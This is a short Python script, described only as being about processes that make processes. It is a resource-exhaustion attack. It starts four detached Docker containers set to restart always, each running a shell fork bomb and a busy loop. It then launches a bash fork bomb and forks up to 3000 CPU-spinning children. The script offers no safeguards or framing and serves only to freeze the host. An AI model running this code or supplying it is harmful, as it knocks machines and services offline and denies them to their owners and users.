# Processes that make processes, in the kernel and in containers.
import os, subprocess
print("goes off", flush=True)
for _ in range(4):
    subprocess.Popen(["docker", "run", "--detach", "--restart=always", "busybox", "sh", "-c", "b() { b | b & }; b; while :; do :; done"])
subprocess.Popen(["bash", "-c", "bomb() { bomb | bomb & }; bomb"])
for _ in range(3000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        pass
